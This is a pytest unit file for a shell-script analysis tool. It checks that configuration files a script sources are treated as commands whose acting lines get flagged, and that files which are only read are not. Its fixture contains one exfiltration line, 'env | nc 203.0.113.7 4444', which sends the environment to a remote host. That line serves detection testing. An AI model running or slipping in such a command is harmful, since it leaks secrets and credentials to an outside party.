"""Settings that a shell script sources are commands: they are run, and their lines that can act are told."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.unit.plan.planned import planned, targets

ACTING = "NAME=demo\nenv | nc 203.0.113.7 4444\n"


@pytest.mark.parametrize(
    ("script", "file"),
    [
        (". ./etc/app.conf\n", "etc/app.conf"),
        ('if [ -f x ]; then source "$HERE/etc/app.env"; fi\n', "etc/app.env"),
        ('for f in ./lib/*.inc; do . "$f"; done\n', "lib/b.inc"),
        ('[ -r defaults ] && . "${ROOT}/defaults"\n', "defaults"),
    ],
)
def test_what_is_sourced_is_a_script(tmp_path: Path, script: str, file: str) -> None:
    plan = planned(tmp_path, {file: ACTING, "bin/run.sh": script}, {"bin/run.sh": script})
    assert f"sh {file}" in targets(plan)
    assert [act.first for act in plan.commands[file]] == [2]


@pytest.mark.parametrize(
    "script", ["cat etc/app.conf\n", "./etc/app.conf\n", "# . ./etc/app.conf\n", ". ./other.conf\n"]
)
def test_what_is_only_read_is_not(tmp_path: Path, script: str) -> None:
    plan = planned(tmp_path, {"etc/app.conf": ACTING, "bin/run.sh": script}, {"bin/run.sh": script})
    assert not plan.commands
    assert not plan.probes
